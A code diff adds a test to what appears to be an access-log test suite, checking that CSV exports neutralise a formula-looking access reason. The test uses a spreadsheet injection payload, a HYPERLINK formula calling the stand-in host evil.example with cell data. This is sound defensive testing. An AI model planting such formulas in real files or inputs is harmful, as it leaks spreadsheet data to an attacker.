@@ -274,6 +274,20 @@ describe('the privacyfunctionaris’ log', () => {
     expect(exports[0]).toMatchObject({ action: 'export', userId: userId['privacy@kompas.demo'], reason: 'Export toegangslog: alleen break-glass' })
   })
 
+  it('the CSV exports a reason that looks like a formula as text (a leading quote), never as a formula', async () => {
+    const dir = as['directeur@branding.demo']
+    const confidential = ((await dir.get('/api/v1/incidents?status=submitted&pageSize=50')).json().items as { id: string; confidential: boolean }[]).find((i) => i.confidential)!
+    const reason = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+    const opened = await dir.request('GET', `/api/v1/incidents/${confidential.id}`, { headers: { 'x-access-reason': reason } })
+    expect(opened.status).toBe(200)
+    const csv = (await as['privacy@kompas.demo'].get('/toegangslog.csv?breakGlass=1')).text
+    const line = csv.split('\r\n').find((l) => l.includes('HYPERLINK'))
+    expect(line).toBeDefined()
+    // RFC 4180 quoting (the reason holds quotes) around the neutralised value: "'=HYPERLINK(""…
+    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""klik"")"`)
+    for (const field of line!.split(';')) expect(field).not.toMatch(/^[=+\-@\t\r]/)
+  })
+
   it('the API filters by date, role and person, and refuses bad filters with structured errors', async () => {
     // The Dutch calendar day the reads above were logged on (not the UTC one, which lags after midnight).
     const today = dutchToday()
